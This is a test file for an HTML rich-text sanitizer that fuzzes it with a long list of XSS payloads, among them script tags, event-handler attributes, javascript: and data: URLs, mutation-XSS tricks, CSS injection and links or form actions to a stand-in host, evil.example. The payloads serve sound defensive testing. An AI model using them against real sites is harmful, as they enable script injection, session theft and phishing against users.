// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { MAX_RICH_TEXT_LENGTH, RICH_TEXT_ELEMENTS } from './richText.ts';
import { resourcesIn, sanitizeRichText } from './sanitizeRichText.ts';

/** XSS attempts and other unwanted markup. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img data-resource-id="7" src=x onerror=alert(1)>',
  '<img data-resource-id="7" alt="x" onload="alert(1)" srcset="//evil.example/a.png">',
  '<img data-resource-id=\'7" onerror="alert(1)\'>',
  '<img alt="`onerror=alert(1)" data-resource-id=7>',
  '<img/onerror="alert(1)"src=x>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/custom/logout" target="_top" onclick="alert(1)">x</a>',
  '<a href="https://good.example" onmouseover=alert(1) style="position:fixed;inset:0">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<video src="javascript:alert(1)"></video>',
  '<video src="http://films.example/a.mp4" controls></video>',
  '<video src="https://u:p@films.example/a.mp4" onerror="alert(1)"></video>',
  '<video src="https://films.example/a.mp4" poster="javascript:alert(1)" autoplay loop onplay=alert(1)></video>',
  '<video><source onerror="alert(1)" src="x"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1));-moz-binding:url(//evil.example/x.xml#a)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<span style="color:#fff;color:red;/**/font-size:9999px;background-image:url(//evil.example/x)">x</span>',
  '<p style="text-align:center;margin-left:-9999px">x</p>',
  '<span style=\'color: #fff" onmouseover="alert(1)\'>x</span>',
  '<form action="//evil.example"><input name=password autofocus onfocus=alert(1)><button>go</button></form>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<textarea></textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><script>alert(1)</script-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div id="root" class="ant-modal" data-resource-id="7">x</div>',
  '<p id=root name=getElementById tabindex=1 contenteditable>x</p>',
  '<ol start="javascript:alert(1)" type="1" onclick=alert(1)><li value=1>x</li></ol>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<x onclick=alert(1)>x',
  '<p/onclick=alert(1)//>x',
  '<b><i><u><a href=x:y><img src=x onerror=alert(1)',
  `${'<p>'.repeat(5_000)}<script>alert(1)</script>`,
  `${'<blockquote><ul><li>'.repeat(2_000)}deep`,
];

const ATTRIBUTES = ['style', 'href', 'target', 'rel', 'data-resource-id', 'alt', 'src', 'controls', 'start'];
const ADDRESS = { href: /^(https?:|mailto:|tel:)/, src: /^https:/ };

/** Violations in a sanitized text, parsed as a browser does. */
function wrongIn(cleaned: string): string[] {
  const { body, head } = new DOMParser().parseFromString(cleaned, 'text/html');
  const wrong = head.children.length > 0 ? ['something in the head'] : [];
  for (const element of body.querySelectorAll('*')) {
    const name = element.localName;
    if (!Object.hasOwn(RICH_TEXT_ELEMENTS, name)) wrong.push(`element ${name}`);
    for (const { name: attribute, value } of element.attributes) {
      if (!ATTRIBUTES.includes(attribute)) wrong.push(`${name} ${attribute}`);
      if (attribute === 'href' && !ADDRESS.href.test(value)) wrong.push(`leads to ${value}`);
      if (attribute === 'src' && !(name === 'video' && ADDRESS.src.test(value))) wrong.push(`shows ${value}`);
      if (
        attribute === 'style' &&
        /url|position|expression|[()]/.test(value.replaceAll('rgb(', '').replaceAll(')', ''))
      )
        wrong.push(`looks like ${value}`);
    }
    if (name === 'a' && element.getAttribute('rel') !== 'noopener noreferrer nofollow') wrong.push('no rel');
  }
  return wrong;
}

describe('nothing hostile is left of', () => {
  test.each(HOSTILE.map((html) => [html.slice(0, 90), html]))('%s', (_, html) => {
    const cleaned = sanitizeRichText(html);
    expect(wrongIn(cleaned)).toEqual([]);
    expect(cleaned).not.toMatch(/<script|<[^>]*\son\w+\s*=(?=[^"]*(?:"[^"]*"[^"]*)*>)/i);
    expect(sanitizeRichText(cleaned)).toBe(cleaned);
  });
});

const piece = fc.oneof(
  fc.constantFrom(...HOSTILE.filter(({ length }) => length < 500)),
  fc.constantFrom(...Object.keys(RICH_TEXT_ELEMENTS)).map((name) => `<${name}>`),
  fc.constantFrom(...Object.keys(RICH_TEXT_ELEMENTS)).map((name) => `</${name}>`),
  fc.constantFrom('<', '>', '"', "'", '&', '<!--', '-->', '<p style="', ' href="', ' on', '=', '/', ';', 'javascript:'),
  fc
    .tuple(
      fc.constantFrom('a', 'img', 'video', 'span', 'p'),
      fc.constantFrom('href', 'src', 'style', 'alt', 'onclick'),
      fc.string(),
    )
    .map(([element, attribute, value]) => `<${element} data-resource-id="3" ${attribute}="${value}">`),
  fc.webUrl().map((address) => `<a href="${address}">x</a>`),
  fc.string(),
);

test('whatever is sent, what is kept is harmless, and cleaning it again changes nothing', () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const cleaned = sanitizeRichText(pieces.join(''));
      expect(wrongIn(cleaned)).toEqual([]);
      expect(sanitizeRichText(cleaned)).toBe(cleaned);
    }),
    { numRuns: 1_000 },
  );
});

describe('what people write stays', () => {
  test.each([
    ['paragraphs and headings', '<h1>Заголовок</h1><p>正文 &amp; text</p><h6>small</h6>'],
    ['marks', '<p><strong>a</strong><em>b</em><u>c</u><s>d</s><code>e</code></p>'],
    ['quotes and code', '<blockquote><p>q</p></blockquote><pre><code>a &lt; b</code></pre>'],
    ['lists', '<ul><li><p>a</p><ol start="3"><li><p>b</p></li></ol></li></ul>'],
    ['places', '<p style="text-align: center; margin-left: 4em">x</p>'],
    ['letters', '<p><span style="font-size: 18px; color: rgb(194, 51, 44); background-color: #fff3cd">x</span></p>'],
    [
      'links',
      '<p><a href="https://example.cn/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
    ],
    ['mail and telephone', '<a href="mailto:a@b.cn" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['pictures', '<img data-resource-id="12" alt="站台 1" />'],
    [
      'films of ours and of elsewhere',
      '<video data-resource-id="13" controls></video><video src="https://films.example/a.mp4" controls></video>',
    ],
  ])('%s', (_, html) => {
    expect(sanitizeRichText(html)).toBe(html);
  });

  test('other programs’ names for the same marks', () => {
    expect(sanitizeRichText('<b>a</b><i>b</i><strike>c</strike><del>d</del>')).toBe(
      '<strong>a</strong><em>b</em><s>c</s><s>d</s>',
    );
  });

  test('text out of what may not stay, and what scripts say not even that', () => {
    expect(sanitizeRichText('<table><tr><td>冷藏箱</td></tr></table><script>x</script>')).toBe('冷藏箱');
  });
});

test('pictures are named anew, and one that may not be shown is gone', () => {
  const html = '<p>a<img data-resource-id="1" alt="x">b<img data-resource-id="2">c</p>';
  const cleaned = sanitizeRichText(html, (id) => (id === 1 ? 41 : null));
  expect(cleaned).toBe('<p>a<img data-resource-id="41" alt="x" />bc</p>');
  expect(resourcesIn(cleaned)).toEqual([41]);
});

test('the longest text of the worst kind is cleaned in a moment', () => {
  const began = performance.now();
  sanitizeRichText('<p style="color:#fff">'.repeat(MAX_RICH_TEXT_LENGTH / 22));
  sanitizeRichText('<'.repeat(MAX_RICH_TEXT_LENGTH));
  sanitizeRichText('<a href="'.repeat(MAX_RICH_TEXT_LENGTH / 9));
  expect(performance.now() - began).toBeLessThan(2_000);
});
